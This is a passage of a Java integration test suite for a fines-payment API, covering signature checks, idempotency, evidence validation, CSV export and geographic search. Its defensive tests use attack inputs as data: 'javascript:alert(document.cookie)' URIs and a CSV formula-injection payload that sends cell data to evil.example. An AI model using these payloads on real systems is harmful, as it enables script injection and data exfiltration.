            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc4-" + UUID.randomUUID()).getPayment();
            Fine paidAtTheCounter = pay(fine, "key-pc4-staff-" + UUID.randomUUID(), 4550).getFine();

            ConfirmPaymentResponse late = provider.confirm(pending);

            assertThat(late.getReplayed()).isFalse();
            assertThat(late.getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_UNAPPLIED);
            assertThat(get(fine.getId())).isEqualTo(paidAtTheCounter);
            assertThat(provider.confirm(pending).getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_UNAPPLIED);
        }

        @Test
        void staffRecordPaymentsConfirmedAtOnce() {
            TestSession partner = app().userWith(Role.ROLE_API_USER);
            Fine fine = ownedBy(viewer, "PC-5");
            PayFineResponse recorded = payAs(FinesServiceGrpc.newBlockingStub(partner.channel()), fine, "key-pc5-" + UUID.randomUUID());

            assertThat(recorded.getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
            assertThat(recorded.getPayment().getConfirmTime()).isEqualTo(recorded.getPayment().getPaidTime());
            assertThat(recorded.getFine().getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
            assertThat(pay(create("PC-5B"), "key-pc5b-" + UUID.randomUUID(), 4550).getPayment().getStatus())
                    .as("an admin's payment").isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
        }

        @Test
        void idempotencyKeysBelongToTheirCaller() {
            TestSession other = app().userWith(Role.ROLE_VIEWER);
            FinesServiceGrpc.FinesServiceBlockingStub otherFines = FinesServiceGrpc.newBlockingStub(other.channel());
            String key = "key-pc6-" + UUID.randomUUID();
            com.finehero.api.fines.v1.Payment mine = payAs(viewerFines, ownedBy(viewer, "PC-6"), key).getPayment();

            PayFineResponse theirs = payAs(otherFines, ownedBy(other, "PC-6B"), key);

            assertThat(theirs.getReplayed()).isFalse();
            assertThat(theirs.getPayment().getId()).isNotEqualTo(mine.getId());
            // staff using the same key pay their own way and never get the viewer's payment back
            Fine shared = ownedBy(viewer, "PC-6C");
            com.finehero.api.fines.v1.Payment viewers = payAs(viewerFines, shared, key + "-c").getPayment();
            PayFineResponse admins = pay(shared, key + "-c", 4550);
            assertThat(admins.getReplayed()).isFalse();
            assertThat(admins.getPayment().getId()).isNotEqualTo(viewers.getId());
        }

        @Test
        void forgedSignatureIsRefusedAndAudited() {
            Fine fine = ownedBy(viewer, "PC-7");
            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc7-" + UUID.randomUUID()).getPayment();
            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
            String wrongSecret = TestPaymentProvider.signature(confirmation, now(), "not-the-secret-but-just-as-long-0123456");
            String forOtherFields = provider.signature(confirmation.toBuilder().setProviderReference("other").build());

            StatusRuntimeException forged = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, wrongSecret));
            StatusRuntimeException altered = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, forOtherFields));
            StatusRuntimeException missing = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, null));
            StatusRuntimeException garbage = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, "t=soon,v1=zz"));

            assertThat(List.of(reason(forged), reason(altered), reason(missing), reason(garbage)))
                    .containsExactly("SIGNATURE_MISMATCH", "SIGNATURE_MISMATCH", "SIGNATURE_MISSING", "SIGNATURE_MALFORMED");
            assertThat(garbage.getStatus().getDescription()).contains("t=soon,v1=zz").contains("expected t=<unix seconds>");
            assertThat(get(fine.getId())).isEqualTo(fine);
            assertThat(auditedConfirmations(pending.getId())).containsExactly(
                    "UNAUTHENTICATED", "UNAUTHENTICATED", "UNAUTHENTICATED", "UNAUTHENTICATED");
        }

        @Test
        void staleSignatureIsRefusedAndAudited() {
            Fine fine = ownedBy(viewer, "PC-8");
            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc8-" + UUID.randomUUID()).getPayment();
            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
            String old = TestPaymentProvider.signature(confirmation, now().minus(Duration.ofMinutes(6)), TestPaymentProvider.SECRET);
            String future = TestPaymentProvider.signature(confirmation, now().plus(Duration.ofMinutes(6)), TestPaymentProvider.SECRET);

            assertThat(reason(failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, old)))).isEqualTo("SIGNATURE_STALE");
            assertThat(reason(failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, future)))).isEqualTo("SIGNATURE_STALE");
            assertThat(get(fine.getId())).isEqualTo(fine);
            assertThat(auditedConfirmations(pending.getId())).containsExactly("UNAUTHENTICATED", "UNAUTHENTICATED");
            // within the window it is accepted
            String recent = TestPaymentProvider.signature(confirmation, now().minus(Duration.ofMinutes(4)), TestPaymentProvider.SECRET);
            assertThat(provider.confirm(confirmation, recent).getPayment().getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
        }

        @Test
        void replayedSignatureIsRefusedAndAudited() {
            Fine fine = ownedBy(viewer, "PC-9");
            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc9-" + UUID.randomUUID()).getPayment();
            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);
            String signature = provider.signature(confirmation);
            provider.confirm(confirmation, signature);
            Fine paid = get(fine.getId());

            StatusRuntimeException replayed = failure(Code.UNAUTHENTICATED, () -> provider.confirm(confirmation, signature));

            assertThat(reason(replayed)).isEqualTo("SIGNATURE_REPLAYED");
            assertThat(get(fine.getId())).isEqualTo(paid);
            assertThat(auditedConfirmations(pending.getId())).containsExactlyInAnyOrder("OK", "UNAUTHENTICATED");
        }

        @Test
        void confirmationOfAnotherAmountIsRefused() {
            Fine fine = ownedBy(viewer, "PC-10");
            com.finehero.api.fines.v1.Payment pending = payAs(viewerFines, fine, "key-pc10-" + UUID.randomUUID()).getPayment();
            ConfirmPaymentRequest less = provider.confirmationOf(pending).toBuilder().setAmount(usd(100)).build();

            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION, () -> provider.confirm(less, provider.signature(less)));

            assertThat(e.getStatus().getDescription()).contains("1.00 USD").contains("45.50 USD");
            assertThat(get(fine.getId())).isEqualTo(fine);
        }

        @Test
        void finesWithPendingPaymentsAreKept() {
            Fine fine = ownedBy(viewer, "PC-11");
            payAs(viewerFines, fine, "key-pc11-" + UUID.randomUUID());
            StatusRuntimeException e = failure(Code.FAILED_PRECONDITION,
                    () -> fines.deleteFine(DeleteFineRequest.newBuilder().setFineId(fine.getId()).build()));
            assertThat(reason(e)).isEqualTo("FINE_HAS_PAYMENTS");
        }

        @Test
        void overRestViewerPaysAndTheProviderConfirms() {
            Fine fine = ownedBy(viewer, "PC-12");
            HttpResponse<String> paid = app().send(HttpRequest.newBuilder(app().uri("/v1/fines/" + fine.getId() + ":pay"))
                    .header("authorization", "Bearer " + viewer.accessToken())
                    .header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString("{\"idempotency_key\": \"key-pc12-" + UUID.randomUUID()
                            + "\", \"amount\": {\"currency_code\": \"USD\", \"amount_minor\": 4550}}")).build());
            assertThat(paid.statusCode()).as(paid.body()).isEqualTo(200);
            com.finehero.api.fines.v1.Payment pending = RestCalls.parse(paid, PayFineResponse.getDefaultInstance()).getPayment();
            assertThat(pending.getStatus()).isEqualTo(PaymentStatus.PAYMENT_STATUS_PENDING_CONFIRMATION);
            ConfirmPaymentRequest confirmation = provider.confirmationOf(pending);

            HttpResponse<String> forged = provider.confirmOverRest(confirmation,
                    TestPaymentProvider.signature(confirmation, now(), "not-the-secret-but-just-as-long-0123456"));
            HttpResponse<String> unsigned = provider.confirmOverRest(confirmation, null);
            String signature = provider.signature(confirmation);
            HttpResponse<String> confirmed = provider.confirmOverRest(confirmation, signature);
            HttpResponse<String> replayed = provider.confirmOverRest(confirmation, signature);

            assertThat(forged.statusCode()).as(forged.body()).isEqualTo(401);
            assertThat(unsigned.statusCode()).as(unsigned.body()).isEqualTo(401);
            assertThat(confirmed.statusCode()).as(confirmed.body()).isEqualTo(200);
            assertThat(RestCalls.parse(confirmed, ConfirmPaymentResponse.getDefaultInstance()).getPayment().getStatus())
                    .isEqualTo(PaymentStatus.PAYMENT_STATUS_CONFIRMED);
            assertThat(replayed.statusCode()).as(replayed.body()).isEqualTo(401);
            assertThat(replayed.body()).contains("SIGNATURE_REPLAYED");
            assertThat(get(fine.getId()).getStatus()).isEqualTo(FineStatus.FINE_STATUS_PAID);
            assertThat(auditedConfirmations(pending.getId())).containsExactlyInAnyOrder(
                    "UNAUTHENTICATED", "UNAUTHENTICATED", "OK", "UNAUTHENTICATED");
        }
    }

    @Nested
    class Evidence {
        @Test
        void onlyHttpsEvidenceIsAccepted() {
            Fine fine = create("EV-1");
            for (String uri : List.of("javascript:alert(document.cookie)", "http://evidence.example/photo.jpg", "data:text/html,hi")) {
                StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.contestFine(ContestFineRequest.newBuilder()
                        .setFineId(fine.getId())
                        .setReason("The bus zone sign was covered by a tree.")
                        .addEvidenceUris("https://evidence.example/photo-1.jpg")
                        .addEvidenceUris(uri)
                        .build()));
                assertThat(violatedFields(e)).as(uri).containsExactly("evidence_uris[1]");
                assertThat(e.getStatus().getDescription()).as(uri)
                        .contains("must be an https URI (scheme found: " + uri.substring(0, uri.indexOf(':')) + ")");
            }
            assertThat(get(fine.getId())).isEqualTo(fine);
            assertThat(contest(fine).getContest().getEvidenceUrisList()).containsExactly("https://evidence.example/photo-1.jpg");
        }

        @Test
        void overRestTheFieldAndSchemeAreNamed() {
            Fine fine = create("EV-2");
            HttpResponse<String> response = app().send(HttpRequest.newBuilder(app().uri("/v1/fines/" + fine.getId() + ":contest"))
                    .header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString("{\"reason\": \"The sign was covered by a tree.\","
                            + " \"evidence_uris\": [\"javascript:alert(1)\"]}")).build());
            assertThat(response.statusCode()).isEqualTo(400);
            assertThat(response.body()).contains("evidence_uris[0]").contains("scheme found: javascript");
        }
    }

    @Nested
    class Export {
        @Test
        void formulaCellsAreNeutralisedAndImportBack() {
            String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
            fines.createFine(CreateFineRequest.newBuilder().setFine(draft("EX-1").setViolationDescription(formula)
                    .setOwnerId("@owner")).build());
            TasksServiceGrpc.TasksServiceBlockingStub tasks = TasksServiceGrpc.newBlockingStub(app().channel())
                    .withDeadlineAfter(Duration.ofSeconds(20));

            Task export = finished(tasks, tasks.submitTask(SubmitTaskRequest.newBuilder().setType("fines_export")
                    .setPayload(Struct.newBuilder().putFields("jurisdiction", Value.newBuilder().setStringValue(jurisdiction).build()))
                    .build()));
            assertThat(export.getState()).as(export.getLastError()).isEqualTo(TaskState.TASK_STATE_SUCCEEDED);
            String csv = DocumentsServiceGrpc.newBlockingStub(app().channel()).getDocument(GetDocumentRequest.newBuilder()
                    .setDocumentId(export.getResult().getFieldsOrThrow("document_id").getStringValue()).build()).getContent();

            assertThat(csv).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",")
                    .contains(",'@owner,").doesNotContain(",=").doesNotContain(",@");

            // the export imports back to the same values, under another jurisdiction
            String elsewhere = jurisdiction + "-B";
            Task imported = finished(tasks, tasks.submitTask(SubmitTaskRequest.newBuilder().setType("fine_import")
                    .setPayload(Struct.newBuilder().putFields("csv", Value.newBuilder()
                            .setStringValue(csv.replace("," + jurisdiction + ",", "," + elsewhere + ",")).build())).build()));
            assertThat(imported.getState()).as(imported.getLastError()).isEqualTo(TaskState.TASK_STATE_SUCCEEDED);
            Fine copy = fines.listFines(ListFinesRequest.newBuilder().setJurisdiction(elsewhere).build()).getFines(0);
            assertThat(copy.getViolationDescription()).isEqualTo(formula);
            assertThat(copy.getOwnerId()).isEqualTo("@owner");
        }

        private Task finished(TasksServiceGrpc.TasksServiceBlockingStub tasks, Task submitted) {
            GetTaskRequest get = GetTaskRequest.newBuilder().setTaskId(submitted.getId()).build();
            Awaitility.await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(25))
                    .until(() -> FINISHED.contains(tasks.getTask(get).getState()));
            return tasks.getTask(get);
        }
    }

    @Nested
    class Stats {
        @Test
        void countsAndSumsByStatus() {
            create("ST-1");
            create("ST-2");
            pay(create("ST-3"), "key-st3-" + UUID.randomUUID(), 4550);

            List<FineStatsGroup> groups = fines.getFineStats(GetFineStatsRequest.newBuilder()
                    .setJurisdiction(jurisdiction).build()).getGroupsList();

            assertThat(groups).containsExactlyInAnyOrder(
                    FineStatsGroup.newBuilder().setJurisdiction(jurisdiction).setStatus(FineStatus.FINE_STATUS_OPEN)
                            .setCount(2).setTotal(usd(9100)).build(),
                    FineStatsGroup.newBuilder().setJurisdiction(jurisdiction).setStatus(FineStatus.FINE_STATUS_PAID)
                            .setCount(1).setTotal(usd(4550)).build());
            assertThat(fines.getFineStats(GetFineStatsRequest.newBuilder().setJurisdiction(jurisdiction).build())
                    .getTotalCount()).isEqualTo(3);
        }
    }

    @Nested
    class Near {
        @Test
        void returnsFinesWithinTheRadiusNearestFirst() {
            // points east of a centre at roughly 100 m, 500 m, 2 km and 20 km
            double lat = 10.0 + Math.random();
            double lng = 20.0 + Math.random();
            double degreePerMeter = 1 / (111_320.0 * Math.cos(Math.toRadians(lat)));
            Fine m500 = createAt("NR-500", lat, lng + 500 * degreePerMeter);
            Fine m100 = createAt("NR-100", lat, lng + 100 * degreePerMeter);
            Fine m2000 = createAt("NR-2000", lat, lng + 2000 * degreePerMeter);
            createAt("NR-20000", lat, lng + 20000 * degreePerMeter);

            List<FineNear> near = fines.listFinesNear(ListFinesNearRequest.newBuilder()
                    .setCenter(GeoPoint.newBuilder().setLatitude(lat).setLongitude(lng))
                    .setRadiusMeters(5000).build()).getFinesList();

            assertThat(near).extracting(n -> n.getFine().getId())
                    .containsExactly(m100.getId(), m500.getId(), m2000.getId());
            assertThat(near.get(0).getDistanceMeters()).isBetween(99.0, 101.0);
            assertThat(near.get(2).getDistanceMeters()).isBetween(1990.0, 2010.0);
        }

        @Test
        void radiusOutOfRangeIsInvalid() {
            StatusRuntimeException e = failure(Code.INVALID_ARGUMENT, () -> fines.listFinesNear(ListFinesNearRequest.newBuilder()
                    .setCenter(GeoPoint.newBuilder().setLatitude(95).setLongitude(0))
                    .setRadiusMeters(1_000_000).build()));
            assertThat(violatedFields(e)).containsExactlyInAnyOrder("center.latitude", "radius_meters");
        }

        private Fine createAt(String citation, double lat, double lng) {
            return fines.createFine(CreateFineRequest.newBuilder().setFine(draft(citation)
                    .setLocation(Location.newBuilder().setPoint(GeoPoint.newBuilder().setLatitude(lat).setLongitude(lng))))
                    .build());
        }
    }
}
